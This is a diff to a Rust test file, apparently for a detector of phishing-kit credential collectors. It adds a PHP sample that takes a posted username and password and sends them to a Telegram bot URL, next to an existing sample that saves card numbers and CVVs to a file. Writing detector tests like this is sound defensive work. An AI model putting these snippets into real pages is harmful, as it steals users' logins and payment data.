@@ -286,6 +286,9 @@ fn credential_collectors_are_found() {
     assert_eq!(found(kit), [Why::CredentialCollector]);
     let saved = "<?php $f = fopen('cards.txt', 'a'); fwrite($f, \"Card: $_POST[ccnum]\\nCVV: $_POST[cvv]\\n\");";
     assert_eq!(found(saved), [Why::CredentialCollector]);
+    let chat = "<?php $t = \"User: \" . $_POST['user'] . \"\\nPass: \" . $_POST['pass']; \
+                file_get_contents('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' . urlencode($t));";
+    assert_eq!(found(chat), [Why::CredentialCollector]);
 }
 
 #[test]
